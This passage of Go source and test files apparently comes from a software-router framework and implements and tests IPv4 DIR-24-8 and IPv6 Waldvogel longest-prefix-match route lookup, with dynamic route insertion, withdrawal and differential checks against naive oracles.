			best = r.PLen
			nh = int(r.NextHop)
		}
	}
	if best == -1 && t.hasDef {
		return t.def
	}
	if best == -1 {
		return MissNextHop
	}
	return uint16(nh)
}

// Levels returns the number of distinct prefix-length levels.
func (t *Table) Levels() int { return len(t.levels) }

// RandomRoutes generates a synthetic IPv6 FIB with a default route and an
// Internet-like length mix (mostly /32../48, some /49../64 and /128).
func RandomRoutes(n int, numNextHops int, seed uint64) []Route {
	r := rng.New(seed)
	routes := []Route{{PLen: 0, NextHop: 0}} // default
	for i := 0; i < n; i++ {
		var plen int
		switch v := r.Float64(); {
		case v < 0.10:
			plen = 16 + r.Intn(16) // /16../31
		case v < 0.80:
			plen = 32 + r.Intn(17) // /32../48
		case v < 0.97:
			plen = 49 + r.Intn(16) // /49../64
		default:
			plen = 128
		}
		addr := packet.IPv6Addr{Hi: r.Uint64(), Lo: r.Uint64()}
		routes = append(routes, Route{
			Prefix:  addr.Mask(plen),
			PLen:    plen,
			NextHop: uint16(r.Intn(numNextHops)),
		})
	}
	return routes
}
