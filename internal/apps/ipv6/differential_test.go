package ipv6

import (
	"testing"

	"nba/internal/packet"
	"nba/internal/rng"
)

// flipBit returns a with bit i (0 = most significant) inverted.
func flipBit(a packet.IPv6Addr, i int) packet.IPv6Addr {
	if i < 64 {
		a.Hi ^= 1 << uint(63-i)
	} else {
		a.Lo ^= 1 << uint(127-i)
	}
	return a
}

// suffixOnes returns a with every bit below plen set — the last address the
// prefix covers.
func suffixOnes(a packet.IPv6Addr, plen int) packet.IPv6Addr {
	m := a.Mask(plen)
	switch {
	case plen <= 0:
		return packet.IPv6Addr{Hi: ^uint64(0), Lo: ^uint64(0)}
	case plen >= 128:
		return m
	case plen <= 64:
		m.Hi |= 1<<uint(64-plen) - 1
		m.Lo = ^uint64(0)
	default:
		m.Lo |= 1<<uint(128-plen) - 1
	}
	return m
}

// probesFor derives boundary-biased probes from one route: first and last
// covered address, the address just outside the prefix (highest prefix bit
// flipped at the boundary), and the same points masked one level shorter —
// the addresses where Waldvogel's marker-guided binary search changes
// direction.
func probesFor(r Route) []packet.IPv6Addr {
	base := r.Prefix.Mask(r.PLen)
	probes := []packet.IPv6Addr{base, suffixOnes(base, r.PLen)}
	if r.PLen > 0 {
		probes = append(probes,
			flipBit(base, r.PLen-1), // sibling subtree at the same depth
			suffixOnes(flipBit(base, r.PLen-1), r.PLen),
			base.Mask(r.PLen-1), // one level up
		)
	}
	if r.PLen < 128 {
		probes = append(probes, flipBit(suffixOnes(base, r.PLen+1), r.PLen)) // deeper split point
	}
	return probes
}

// TestDifferentialAgainstNaive cross-checks the Waldvogel search against the
// linear-scan LPM oracle over several independently seeded tables: random
// probes plus boundary-biased probes from every route. Different seeds and
// densities change which prefix-length levels exist and therefore the whole
// binary-search/marker layout.
func TestDifferentialAgainstNaive(t *testing.T) {
	cases := []struct {
		n, nextHops int
		seed        uint64
	}{
		{50, 4, 31},     // few levels
		{1000, 64, 32},  // moderate
		{5000, 256, 33}, // most levels populated, many markers
	}
	for _, c := range cases {
		routes := RandomRoutes(c.n, c.nextHops, c.seed)
		table, err := NewTable(routes)
		if err != nil {
			t.Fatalf("seed %d: %v", c.seed, err)
		}
		for _, rt := range routes {
			for _, probe := range probesFor(rt) {
				if got, want := table.Lookup(probe), table.NaiveLookup(probe); got != want {
					t.Fatalf("seed %d: Lookup(%v) = %d, oracle %d (route plen=%d %v)",
						c.seed, probe, got, want, rt.PLen, rt.Prefix)
				}
			}
		}
		rand := rng.New(c.seed * 1000)
		for i := 0; i < 1000; i++ {
			probe := packet.IPv6Addr{Hi: rand.Uint64(), Lo: rand.Uint64()}
			if got, want := table.Lookup(probe), table.NaiveLookup(probe); got != want {
				t.Fatalf("seed %d: Lookup(%v) = %d, oracle %d", c.seed, probe, got, want)
			}
		}
	}
}

// TestDifferentialNestedPrefixes pins the marker-heavy case: a chain of
// nested prefixes along one path plus decoys on sibling paths, checked at
// every split point.
func TestDifferentialNestedPrefixes(t *testing.T) {
	base := packet.IPv6Addr{Hi: 0x20010DB800000000}
	var routes []Route
	for i, plen := range []int{16, 32, 48, 64, 80, 96, 112, 128} {
		routes = append(routes, Route{Prefix: base.Mask(plen), PLen: plen, NextHop: uint16(i + 1)})
		// A decoy in the sibling subtree at each depth.
		routes = append(routes, Route{Prefix: flipBit(base, plen-1).Mask(plen), PLen: plen, NextHop: uint16(100 + i)})
	}
	table, err := NewTable(routes)
	if err != nil {
		t.Fatal(err)
	}
	for _, rt := range routes {
		for _, probe := range probesFor(rt) {
			if got, want := table.Lookup(probe), table.NaiveLookup(probe); got != want {
				t.Fatalf("Lookup(%v) = %d, oracle %d (route plen=%d)", probe, got, want, rt.PLen)
			}
		}
	}
	// Every bit position along the chain, inside and outside.
	for bit := 0; bit < 128; bit++ {
		probe := flipBit(suffixOnes(base, 128), bit)
		if got, want := table.Lookup(probe), table.NaiveLookup(probe); got != want {
			t.Fatalf("bit %d: Lookup(%v) = %d, oracle %d", bit, probe, got, want)
		}
	}
}
