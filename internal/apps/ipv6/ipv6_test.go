package ipv6

import (
	"testing"
	"testing/quick"

	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
)

func addr(hi, lo uint64) packet.IPv6Addr { return packet.IPv6Addr{Hi: hi, Lo: lo} }

func TestBasicLookup(t *testing.T) {
	table, err := NewTable([]Route{
		{Prefix: addr(0x2001_0DB8_0000_0000, 0), PLen: 32, NextHop: 1},
		{Prefix: addr(0x2001_0DB8_0001_0000, 0), PLen: 48, NextHop: 2},
		{Prefix: addr(0x2001_0DB8_0001_0000, 0x8000_0000_0000_0000), PLen: 65, NextHop: 3},
	})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		a    packet.IPv6Addr
		want uint16
	}{
		{addr(0x2001_0DB8_FFFF_0000, 1), 1},
		{addr(0x2001_0DB8_0001_FFFF, 1), 2},
		{addr(0x2001_0DB8_0001_0000, 0x8000_0000_0000_0001), 3},
		{addr(0x2001_0DB8_0001_0000, 0x7000_0000_0000_0001), 2},
		{addr(0x3001_0000_0000_0000, 0), MissNextHop},
	}
	for _, c := range cases {
		if got := table.Lookup(c.a); got != c.want {
			t.Errorf("Lookup(%v) = %d, want %d", c.a, got, c.want)
		}
	}
}

func TestDefaultRoute(t *testing.T) {
	table, err := NewTable([]Route{
		{PLen: 0, NextHop: 7},
		{Prefix: addr(0x2001_0000_0000_0000, 0), PLen: 16, NextHop: 1},
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := table.Lookup(addr(0x3001, 5)); got != 7 {
		t.Errorf("default: got %d, want 7", got)
	}
	if got := table.Lookup(addr(0x2001_0000_0000_0001, 5)); got != 1 {
		t.Errorf("specific: got %d, want 1", got)
	}
}

func TestPlenValidation(t *testing.T) {
	if _, err := NewTable([]Route{{PLen: 129}}); err == nil {
		t.Error("plen 129 accepted")
	}
	if _, err := NewTable([]Route{{PLen: -1}}); err == nil {
		t.Error("negative plen accepted")
	}
}

func TestProbeBound(t *testing.T) {
	// With levels spanning the full range, probes must stay within
	// ceil(log2(nlevels)) + 1 — the paper's "at most seven" bound.
	table, err := NewTable(RandomRoutes(5000, 64, 3))
	if err != nil {
		t.Fatal(err)
	}
	maxProbes := 0
	r := rng.New(4)
	for i := 0; i < 5000; i++ {
		_, probes := table.LookupCounted(addr(r.Uint64(), r.Uint64()))
		if probes > maxProbes {
			maxProbes = probes
		}
	}
	if maxProbes > 8 {
		t.Errorf("max probes = %d, want <= 8 (binary search over %d levels)", maxProbes, table.Levels())
	}
}

func TestLookupMatchesNaiveProperty(t *testing.T) {
	table, err := NewTable(RandomRoutes(3000, 64, 5))
	if err != nil {
		t.Fatal(err)
	}
	f := func(hi, lo uint64) bool {
		a := addr(hi, lo)
		return table.Lookup(a) == table.NaiveLookup(a)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error(err)
	}
}

func TestLookupMatchesNaiveOnRouteTargets(t *testing.T) {
	// Addresses inside actual prefixes stress marker correctness far more
	// than uniform random ones.
	routes := RandomRoutes(1500, 64, 6)
	table, err := NewTable(routes)
	if err != nil {
		t.Fatal(err)
	}
	r := rng.New(8)
	for _, rt := range routes {
		probe := rt.Prefix
		// Set some bits below the prefix length.
		probe.Lo |= r.Uint64() &^ 0 >> uint(rt.PLen%64)
		if got, want := table.Lookup(probe), table.NaiveLookup(probe); got != want {
			t.Fatalf("Lookup(%v) = %d, want %d (route %+v)", probe, got, want, rt)
		}
	}
}

func TestElementProcess(t *testing.T) {
	nl := element.NewNodeLocal()
	cc := &element.ConfigContext{NodeLocal: nl, NumPorts: 8, Rand: rng.New(1)}
	e := &LookupIP6Route{}
	if err := e.Configure(cc, []string{"entries=2000", "seed=2"}); err != nil {
		t.Fatal(err)
	}
	pc := &element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}
	p := &packet.Packet{}
	n := packet.BuildUDP6(p.Buf(), [6]byte{2}, [6]byte{4},
		addr(1, 2), addr(0x2001_0DB8, 99), 1, 2, 80)
	p.SetLength(n)
	if r := e.Process(pc, p); r != 0 {
		t.Fatalf("Process = %d (default route should match)", r)
	}
	if p.Anno[packet.AnnoOutPort] >= 8 {
		t.Errorf("out port %d out of range", p.Anno[packet.AnnoOutPort])
	}
}

func TestElementConfigErrors(t *testing.T) {
	nl := element.NewNodeLocal()
	cc := &element.ConfigContext{NodeLocal: nl, NumPorts: 8, Rand: rng.New(1)}
	for _, args := range [][]string{{"entries=x"}, {"seed=-"}, {"wat=1"}} {
		if err := (&LookupIP6Route{}).Configure(cc, args); err == nil {
			t.Errorf("config %v accepted", args)
		}
	}
}

func TestDatablocks(t *testing.T) {
	dbs := (&LookupIP6Route{}).Datablocks()
	if len(dbs) != 2 || dbs[0].BytesFor(1500) != 16 || dbs[1].BytesFor(64) != 4 {
		t.Errorf("datablocks wrong: %+v", dbs)
	}
}

func BenchmarkLookup(b *testing.B) {
	table, err := NewTable(RandomRoutes(100000, 256, 1))
	if err != nil {
		b.Fatal(err)
	}
	r := rng.New(2)
	addrs := make([]packet.IPv6Addr, 1024)
	for i := range addrs {
		addrs[i] = addr(r.Uint64(), r.Uint64())
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		table.Lookup(addrs[i%1024])
	}
}
