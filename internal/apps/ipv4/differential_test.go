package ipv4

import (
	"testing"

	"nba/internal/rng"
)

// probesFor derives boundary-biased probe addresses from one route: the first
// and last address the prefix covers, the addresses just outside on both
// sides, and the /24 and /8 alignment points DIR-24-8 is sensitive to (where
// a lookup crosses from TBL24 into a TBLlong block).
func probesFor(r Route) []uint32 {
	var mask uint32
	if r.PLen > 0 {
		mask = ^uint32(0) << (32 - r.PLen)
	}
	base := r.Prefix & mask
	last := base | ^mask
	return []uint32{
		base, last,
		base - 1, last + 1, // just outside (wraps at 0 / max, still valid probes)
		base &^ 0xFF, base | 0xFF, // ends of the containing /24 block
		(base &^ 0xFF) - 1, (base | 0xFF) + 1, // adjacent /24 blocks
		base ^ 0x80000000, // far half of the address space
	}
}

// TestDifferentialAgainstNaive cross-checks DIR-24-8 against the linear-scan
// LPM oracle over several independently seeded tables, probing both uniform
// random addresses and boundary-biased addresses derived from every route.
// The single-table property tests above catch gross errors; sweeping table
// densities exercises different TBL24/TBLlong occupancy patterns.
func TestDifferentialAgainstNaive(t *testing.T) {
	cases := []struct {
		n, nextHops int
		seed        uint64
	}{
		{100, 4, 21},    // sparse: mostly misses
		{1000, 64, 22},  // moderate
		{4000, 256, 23}, // dense: heavy TBLlong spill
	}
	for _, c := range cases {
		routes := RandomRoutes(c.n, c.nextHops, c.seed)
		table, err := NewTable(routes)
		if err != nil {
			t.Fatalf("seed %d: %v", c.seed, err)
		}
		for _, r := range routes {
			for _, addr := range probesFor(r) {
				if got, want := table.Lookup(addr), table.NaiveLookup(addr); got != want {
					t.Fatalf("seed %d: Lookup(%#08x) = %d, oracle %d (route %+v)",
						c.seed, addr, got, want, r)
				}
			}
		}
		rand := rng.New(c.seed * 1000)
		for i := 0; i < 2000; i++ {
			addr := rand.Uint32()
			if got, want := table.Lookup(addr), table.NaiveLookup(addr); got != want {
				t.Fatalf("seed %d: Lookup(%#08x) = %d, oracle %d", c.seed, addr, got, want)
			}
		}
	}
}

// TestDifferentialDuplicateAndOverlap builds a hand-crafted table of nested
// and duplicate prefixes — the configurations where insertion order matters —
// and checks exhaustive agreement over the covered /24.
func TestDifferentialDuplicateAndOverlap(t *testing.T) {
	routes := []Route{
		{Prefix: 0x0A010100, PLen: 24, NextHop: 1},
		{Prefix: 0x0A010100, PLen: 25, NextHop: 2},
		{Prefix: 0x0A010180, PLen: 25, NextHop: 3},
		{Prefix: 0x0A010140, PLen: 26, NextHop: 4},
		{Prefix: 0x0A010100, PLen: 24, NextHop: 5}, // duplicate /24, later wins
		{Prefix: 0x0A0101C0, PLen: 30, NextHop: 6},
		{Prefix: 0x0A0101C0, PLen: 30, NextHop: 7}, // duplicate /30, later wins
		{Prefix: 0x0A0101FF, PLen: 32, NextHop: 8},
		{Prefix: 0x0A010000, PLen: 16, NextHop: 9},
	}
	table, err := NewTable(routes)
	if err != nil {
		t.Fatal(err)
	}
	for a := uint32(0x0A010000); a <= 0x0A0102FF; a++ {
		if got, want := table.Lookup(a), table.NaiveLookup(a); got != want {
			t.Fatalf("Lookup(%#08x) = %d, oracle %d", a, got, want)
		}
	}
}
