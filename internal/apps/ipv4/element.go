package ipv4

import (
	"fmt"
	"strconv"
	"strings"
	"sync"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
)

func init() {
	element.Register("IPLookup", func() element.Element { return &IPLookup{} })
}

// IPLookup is the offloadable DIR-24-8 route lookup element (paper Figure
// 8a). It writes the output NIC port derived from the next hop into the
// packet's AnnoOutPort annotation; unroutable packets are dropped.
//
// Parameters: "entries=N" (synthetic FIB size, default 65536),
// "seed=S" (FIB seed, default 42).
type IPLookup struct {
	table    *Table
	numPorts int
}

// Class implements element.Element.
func (*IPLookup) Class() string { return "IPLookup" }

// OutPorts implements element.Element.
func (*IPLookup) OutPorts() int { return 1 }

// Configure implements element.Element. The FIB is built once per socket
// and shared across worker replicas through node-local storage (paper §3.2).
func (e *IPLookup) Configure(ctx *element.ConfigContext, args []string) error {
	entries := 65536
	seed := uint64(42)
	for _, a := range args {
		switch {
		case strings.HasPrefix(a, "entries="):
			v, err := strconv.Atoi(strings.TrimPrefix(a, "entries="))
			if err != nil || v < 0 {
				return fmt.Errorf("IPLookup: bad entries %q", a)
			}
			entries = v
		case strings.HasPrefix(a, "seed="):
			v, err := strconv.ParseUint(strings.TrimPrefix(a, "seed="), 10, 64)
			if err != nil {
				return fmt.Errorf("IPLookup: bad seed %q", a)
			}
			seed = v
		default:
			return fmt.Errorf("IPLookup: unknown parameter %q", a)
		}
	}
	key := fmt.Sprintf("ipv4.fib.%d.%d", entries, seed)
	var err error
	e.table = element.GetOrCreate(ctx.NodeLocal, key, func() *Table {
		tableMu.Lock()
		defer tableMu.Unlock()
		if t, ok := tableCache[key]; ok {
			return t
		}
		t, berr := NewTable(RandomRoutes(entries, 256, seed))
		if berr != nil {
			err = berr
			return t
		}
		tableCache[key] = t
		return t
	})
	if err != nil {
		return err
	}
	e.numPorts = ctx.NumPorts
	return nil
}

// tableCache shares immutable FIBs across Systems in one process: building
// a DIR-24-8 table is expensive and the result is read-only. The mutex makes
// the cache safe for concurrent System construction (internal/par sweeps);
// the table content is a pure function of the key, so whichever case builds
// it first, every case reads identical routes.
var (
	tableMu    sync.Mutex
	tableCache = map[string]*Table{}
)

// Process implements the CPU-side function.
func (e *IPLookup) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	nh := e.table.Lookup(packet.IPv4Dst(pkt.Data()[packet.EthHdrLen:]))
	if nh == MissNextHop {
		return element.Drop
	}
	pkt.Anno[packet.AnnoOutPort] = uint64(int(nh) % e.numPorts)
	return 0
}

// Datablocks implements element.Offloadable: only the 4-byte destination
// address goes to the device and a 4-byte result comes back — the showcase
// for partial-packet datablocks (paper Table 2).
func (e *IPLookup) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "ipv4.dst", Kind: element.PartialPacket,
			Offset: packet.EthHdrLen + 16, Length: 4, H2D: true},
		{Name: "ipv4.nexthop", Kind: element.UserData, UserBytes: 4, D2H: true},
	}
}

// ProcessOffloaded implements the device-side function.
func (e *IPLookup) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		nh := e.table.Lookup(packet.IPv4Dst(pkt.Data()[packet.EthHdrLen:]))
		if nh == MissNextHop {
			b.SetResult(i, batch.ResultDrop)
			return
		}
		pkt.Anno[packet.AnnoOutPort] = uint64(int(nh) % e.numPorts)
	})
}
