package ipv4

import (
	"testing"

	"nba/internal/rng"
)

func TestDynamicInsertWithdrawBasics(t *testing.T) {
	d := NewDynamicTable()
	if got := d.Lookup(0x0A000001); got != MissNextHop {
		t.Fatalf("empty table Lookup = %d", got)
	}
	must := func(r Route) {
		t.Helper()
		if err := d.Insert(r); err != nil {
			t.Fatal(err)
		}
	}
	must(Route{Prefix: 0x0A000000, PLen: 8, NextHop: 1})
	must(Route{Prefix: 0x0A010000, PLen: 16, NextHop: 2})
	must(Route{Prefix: 0x0A010180, PLen: 25, NextHop: 3})

	cases := []struct {
		addr uint32
		want uint16
	}{
		{0x0A000001, 1},
		{0x0A010001, 2},
		{0x0A010181, 3},
		{0x0B000000, MissNextHop},
	}
	for _, c := range cases {
		if got := d.Lookup(c.addr); got != c.want {
			t.Errorf("Lookup(%#08x) = %d, want %d", c.addr, got, c.want)
		}
	}

	// Withdraw the /16: addresses fall back to the /8.
	ok, err := d.Withdraw(0x0A010000, 16)
	if err != nil || !ok {
		t.Fatalf("Withdraw: %v %v", ok, err)
	}
	if got := d.Lookup(0x0A010001); got != 1 {
		t.Errorf("after /16 withdraw: Lookup = %d, want 1 (the /8)", got)
	}
	// The /25 survives inside the withdrawn range's former space.
	if got := d.Lookup(0x0A010181); got != 3 {
		t.Errorf("after /16 withdraw: /25 lookup = %d, want 3", got)
	}

	// Withdrawing a non-existent route reports false.
	ok, err = d.Withdraw(0x0A010000, 16)
	if err != nil || ok {
		t.Errorf("double withdraw: %v %v", ok, err)
	}
}

func TestDynamicInsertOutOfOrder(t *testing.T) {
	// The static builder requires ascending prefix lengths; the dynamic
	// table must not. Insert long-before-short.
	d := NewDynamicTable()
	d.Insert(Route{Prefix: 0x0A010100, PLen: 24, NextHop: 5})
	d.Insert(Route{Prefix: 0x0A000000, PLen: 8, NextHop: 1})
	if got := d.Lookup(0x0A010101); got != 5 {
		t.Errorf("shorter insert clobbered longer: got %d, want 5", got)
	}
	if got := d.Lookup(0x0A020202); got != 1 {
		t.Errorf("shorter route missing: got %d, want 1", got)
	}
	// Long prefix after short: /28 inside the /8.
	d.Insert(Route{Prefix: 0x0A0305F0, PLen: 28, NextHop: 7})
	if got := d.Lookup(0x0A0305F1); got != 7 {
		t.Errorf("/28 lookup = %d, want 7", got)
	}
	if got := d.Lookup(0x0A030601); got != 1 {
		t.Errorf("neighbour of /28 = %d, want 1", got)
	}
}

func TestDynamicReplaceRoute(t *testing.T) {
	d := NewDynamicTable()
	d.Insert(Route{Prefix: 0xC0A80000, PLen: 16, NextHop: 1})
	d.Insert(Route{Prefix: 0xC0A80000, PLen: 16, NextHop: 9})
	if got := d.Lookup(0xC0A80001); got != 9 {
		t.Errorf("replacement: got %d, want 9", got)
	}
	if n := len(d.Routes()); n != 1 {
		t.Errorf("route list has %d entries, want 1", n)
	}
}

func TestDynamicWithdrawLongPrefix(t *testing.T) {
	d := NewDynamicTable()
	d.Insert(Route{Prefix: 0x0A010100, PLen: 24, NextHop: 1})
	d.Insert(Route{Prefix: 0x0A010180, PLen: 26, NextHop: 2})
	d.Insert(Route{Prefix: 0x0A0101C0, PLen: 30, NextHop: 3})
	if d.Lookup(0x0A0101C1) != 3 || d.Lookup(0x0A010181) != 2 {
		t.Fatal("setup lookups wrong")
	}
	ok, _ := d.Withdraw(0x0A010180, 26)
	if !ok {
		t.Fatal("withdraw failed")
	}
	// /30 still wins inside its range; the rest of the /26 range falls to /24.
	if got := d.Lookup(0x0A0101C1); got != 3 {
		t.Errorf("/30 after /26 withdraw = %d, want 3", got)
	}
	if got := d.Lookup(0x0A010181); got != 1 {
		t.Errorf("former /26 range = %d, want 1 (/24)", got)
	}
}

func TestDynamicValidation(t *testing.T) {
	d := NewDynamicTable()
	if err := d.Insert(Route{PLen: 33}); err == nil {
		t.Error("plen 33 accepted")
	}
	if err := d.Insert(Route{NextHop: 0x8000}); err == nil {
		t.Error("huge next hop accepted")
	}
	if _, err := d.Withdraw(0, -1); err == nil {
		t.Error("negative plen accepted")
	}
}

func TestDynamicMatchesNaiveUnderChurn(t *testing.T) {
	// Property: after any sequence of inserts and withdraws, Lookup agrees
	// with the naive LPM over the live route set — probed at prefix edges,
	// where off-by-one slot arithmetic would show.
	d := NewDynamicTable()
	r := rng.New(31)
	var live []Route
	probe := func(step int) {
		t.Helper()
		for trial := 0; trial < 40; trial++ {
			var addr uint32
			if len(live) > 0 && r.Bool(0.7) {
				rt := live[r.Intn(len(live))]
				var mask uint32
				if rt.PLen > 0 {
					mask = ^uint32(0) << (32 - rt.PLen)
				}
				switch r.Intn(4) {
				case 0:
					addr = rt.Prefix & mask
				case 1:
					addr = rt.Prefix&mask | ^mask
				case 2:
					addr = rt.Prefix&mask + 1
				default:
					addr = rt.Prefix&mask - 1
				}
			} else {
				addr = r.Uint32()
			}
			if got, want := d.Lookup(addr), d.NaiveLookup(addr); got != want {
				t.Fatalf("step %d: Lookup(%#08x) = %d, naive %d (%d live routes)",
					step, addr, got, want, len(live))
			}
		}
	}
	for step := 0; step < 400; step++ {
		if len(live) == 0 || r.Bool(0.65) {
			plen := []int{0, 8, 12, 16, 20, 24, 25, 26, 28, 30, 32}[r.Intn(11)]
			rt := Route{
				Prefix:  maskPrefix(r.Uint32(), plen),
				PLen:    plen,
				NextHop: uint16(r.Intn(100)),
			}
			if err := d.Insert(rt); err != nil {
				t.Fatal(err)
			}
			// Mirror the replace semantics in the live list.
			replaced := false
			for i := range live {
				if live[i].Prefix == rt.Prefix && live[i].PLen == rt.PLen {
					live[i] = rt
					replaced = true
					break
				}
			}
			if !replaced {
				live = append(live, rt)
			}
		} else {
			i := r.Intn(len(live))
			rt := live[i]
			ok, err := d.Withdraw(rt.Prefix, rt.PLen)
			if err != nil || !ok {
				t.Fatalf("withdraw live route: %v %v", ok, err)
			}
			live = append(live[:i], live[i+1:]...)
		}
		if step%20 == 0 {
			probe(step)
		}
	}
	probe(400)
}
