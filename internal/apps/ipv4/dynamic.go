package ipv4

import "fmt"

// Dynamic updates. The static builder (NewTable) relies on inserting routes
// in ascending prefix-length order; runtime updates cannot. DynamicTable
// augments DIR-24-8 with per-slot owner prefix lengths, so an insert only
// overwrites slots currently owned by an equal-or-shorter prefix, and a
// withdraw recomputes exactly the address range the dead route covered.
//
// This is how a software router tracks BGP churn without rebuilding the
// 16M-entry TBL24 on every update.

// DynamicTable is a DIR-24-8 table supporting incremental route insertion
// and withdrawal.
type DynamicTable struct {
	t *Table
	// owner24[i] is 1 + the prefix length owning TBL24 slot i (0 = empty).
	owner24 []uint8
	// ownerLong mirrors tblLong.
	ownerLong []uint8
	routes    []Route
}

// NewDynamicTable creates an empty dynamic table.
func NewDynamicTable() *DynamicTable {
	t := &Table{tbl24: make([]uint16, 1<<24)}
	for i := range t.tbl24 {
		t.tbl24[i] = MissNextHop
	}
	return &DynamicTable{t: t, owner24: make([]uint8, 1<<24)}
}

// Lookup returns the next hop for addr, or MissNextHop.
func (d *DynamicTable) Lookup(addr uint32) uint16 { return d.t.Lookup(addr) }

// Routes returns a copy of the live route set.
func (d *DynamicTable) Routes() []Route { return append([]Route(nil), d.routes...) }

// Insert adds (or replaces) a route. Among routes with identical prefix and
// length, the last insert wins.
func (d *DynamicTable) Insert(r Route) error {
	if r.PLen < 0 || r.PLen > 32 {
		return fmt.Errorf("ipv4: prefix length %d out of range", r.PLen)
	}
	if r.NextHop > maxNextHop {
		return fmt.Errorf("ipv4: next hop %d exceeds %d", r.NextHop, maxNextHop)
	}
	r.Prefix = maskPrefix(r.Prefix, r.PLen)
	// Replace an identical route in place, otherwise append.
	replaced := false
	for i := range d.routes {
		if d.routes[i].Prefix == r.Prefix && d.routes[i].PLen == r.PLen {
			d.routes[i] = r
			replaced = true
			break
		}
	}
	if !replaced {
		d.routes = append(d.routes, r)
	}
	d.write(r)
	return nil
}

// Withdraw removes a route; it reports whether the route existed.
func (d *DynamicTable) Withdraw(prefix uint32, plen int) (bool, error) {
	if plen < 0 || plen > 32 {
		return false, fmt.Errorf("ipv4: prefix length %d out of range", plen)
	}
	prefix = maskPrefix(prefix, plen)
	idx := -1
	for i, r := range d.routes {
		if r.Prefix == prefix && r.PLen == plen {
			idx = i
			break
		}
	}
	if idx < 0 {
		return false, nil
	}
	d.routes = append(d.routes[:idx], d.routes[idx+1:]...)

	// Recompute exactly the covered range: clear it, then replay every
	// remaining route that intersects it (restricted to the range).
	lo24, hi24 := cover24(prefix, plen)
	d.clearRange(lo24, hi24, prefix, plen)
	for _, r := range d.routes {
		if rangesIntersect(r, prefix, plen) {
			d.writeRestricted(r, lo24, hi24, prefix, plen)
		}
	}
	return true, nil
}

func maskPrefix(p uint32, plen int) uint32 {
	if plen == 0 {
		return 0
	}
	return p & (^uint32(0) << (32 - plen))
}

// cover24 returns the inclusive TBL24 index range a prefix covers.
func cover24(prefix uint32, plen int) (uint32, uint32) {
	if plen == 0 {
		return 0, 1<<24 - 1
	}
	lo := prefix >> 8
	var span uint32 = 1
	if plen < 24 {
		span = 1 << (24 - plen)
	}
	return lo, lo + span - 1
}

// rangesIntersect reports whether route r overlaps the address range of
// (prefix, plen).
func rangesIntersect(r Route, prefix uint32, plen int) bool {
	min := r.PLen
	if plen < min {
		min = plen
	}
	return maskPrefix(r.Prefix, min) == maskPrefix(prefix, min)
}

// write installs route r everywhere it wins against the current owners.
func (d *DynamicTable) write(r Route) {
	lo, hi := cover24(r.Prefix, r.PLen)
	d.writeRestricted(r, lo, hi, r.Prefix, r.PLen)
}

// writeRestricted installs r into TBL24 slots [lo24,hi24] (and any TBLlong
// blocks there), but only into addresses also covered by (limPrefix,
// limPLen) and only over owners with plen <= r.PLen.
func (d *DynamicTable) writeRestricted(r Route, lo24, hi24 uint32, limPrefix uint32, limPLen int) {
	t := d.t
	own := uint8(r.PLen + 1)
	rlo, rhi := cover24(r.Prefix, r.PLen)
	if rlo > lo24 {
		lo24 = rlo
	}
	if rhi < hi24 {
		hi24 = rhi
	}
	if r.PLen <= 24 {
		for i := lo24; i <= hi24; i++ {
			if isExt(t.tbl24[i]) {
				base := int(t.tbl24[i]&^extFlag) * 256
				for j := 0; j < 256; j++ {
					addr := i<<8 | uint32(j)
					if d.ownerLong[base+j] <= own && addrIn(addr, limPrefix, limPLen) {
						t.tblLong[base+j] = r.NextHop
						d.ownerLong[base+j] = own
					}
				}
			} else if d.owner24[i] <= own && addrIn(i<<8, limPrefix, min24(limPLen)) {
				t.tbl24[i] = r.NextHop
				d.owner24[i] = own
			}
		}
		return
	}
	// plen 25..32: ensure the extension block exists.
	i := lo24 // == hi24 for long prefixes
	if !isExt(t.tbl24[i]) {
		if len(t.tblLong)/256 >= 0x7FFF {
			// TBLlong exhausted: drop the update. A production table would
			// garbage-collect blocks; our synthetic workloads never hit this.
			return
		}
		blockID := uint16(len(t.tblLong) / 256)
		oldNH := t.tbl24[i]
		oldOwn := d.owner24[i]
		for j := 0; j < 256; j++ {
			t.tblLong = append(t.tblLong, oldNH)
			d.ownerLong = append(d.ownerLong, oldOwn)
		}
		t.tbl24[i] = extFlag | blockID
		d.owner24[i] = 0
	}
	base := int(t.tbl24[i]&^extFlag) * 256
	lowByte := int(uint8(r.Prefix))
	count := 1 << (32 - r.PLen)
	for j := 0; j < count; j++ {
		slot := lowByte + j
		addr := i<<8 | uint32(slot)
		if d.ownerLong[base+slot] <= own && addrIn(addr, limPrefix, limPLen) {
			t.tblLong[base+slot] = r.NextHop
			d.ownerLong[base+slot] = own
		}
	}
}

// min24 caps a prefix length at 24 for TBL24-granularity containment tests.
func min24(plen int) int {
	if plen > 24 {
		return 24
	}
	return plen
}

// addrIn reports whether addr is covered by (prefix, plen).
func addrIn(addr, prefix uint32, plen int) bool {
	return maskPrefix(addr, plen) == maskPrefix(prefix, plen)
}

// clearRange resets the covered slots to "no route" before a withdraw
// replay. Only addresses inside (prefix, plen) are touched.
func (d *DynamicTable) clearRange(lo24, hi24 uint32, prefix uint32, plen int) {
	t := d.t
	for i := lo24; i <= hi24; i++ {
		if isExt(t.tbl24[i]) {
			base := int(t.tbl24[i]&^extFlag) * 256
			for j := 0; j < 256; j++ {
				if addrIn(i<<8|uint32(j), prefix, plen) {
					t.tblLong[base+j] = MissNextHop
					d.ownerLong[base+j] = 0
				}
			}
		} else if addrIn(i<<8, prefix, min24(plen)) {
			t.tbl24[i] = MissNextHop
			d.owner24[i] = 0
		}
	}
}

// NaiveLookup is the reference LPM over the live route set.
func (d *DynamicTable) NaiveLookup(addr uint32) uint16 {
	best := -1
	var nh uint16 = MissNextHop
	for _, r := range d.routes {
		if addrIn(addr, r.Prefix, r.PLen) && r.PLen >= best {
			best = r.PLen
			nh = r.NextHop
		}
	}
	return nh
}
